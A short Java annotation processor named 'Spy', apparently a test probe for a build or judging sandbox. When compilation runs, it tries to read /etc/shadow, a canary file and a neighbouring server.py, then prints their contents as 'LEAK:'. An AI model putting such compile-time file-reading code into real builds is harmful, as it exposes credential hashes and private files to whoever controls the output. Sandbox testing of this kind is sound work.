import java.nio.file.*;
import java.util.Set;
import javax.annotation.processing.*;
import javax.lang.model.element.TypeElement;

@SupportedAnnotationTypes("*")
public class Spy extends AbstractProcessor {
    @Override
    public boolean process(Set<? extends TypeElement> annotations, RoundEnvironment round) {
        for (String place : new String[] {"/etc/shadow", "@HOME@/canary.txt", "@CLASS@/beside/server.py"}) {
            try {
                System.out.println("LEAK: " + Files.readString(Path.of(place)));
            } catch (Exception e) {
                System.out.println(place + " cannot be read");
            }
        }
        return false;
    }
}
